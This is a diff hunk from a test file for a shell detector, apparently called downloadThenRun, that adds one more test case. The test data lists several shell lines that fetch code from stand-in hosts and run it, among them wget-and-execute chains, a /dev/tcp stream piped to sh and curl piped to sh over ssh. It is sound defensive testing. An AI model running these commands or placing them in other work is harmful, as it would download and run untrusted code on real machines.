@@ -22,6 +22,7 @@ describe("a download that the same line runs", () => {
     "python3 -c \"import urllib.request as u; exec(u.urlopen('http://files.example/i').read())\"",
     "wget http://203.0.113.9/k.tgz; tar xzf k.tgz; cd k; ./run",
     "exec 5<>/dev/tcp/192.0.2.4/80; echo x >&5; cat <&5 | sh",
+    "$SHELL -c 'wget http://192.0.2.4/q -O q; chmod +x q; ./q'",
     "ssh host 'curl http://files.example/i | sh'",
   ])("%s", (line) => {
     expect(clear(new ShellHost(downloadThenRun).line(line))).toHaveLength(1);
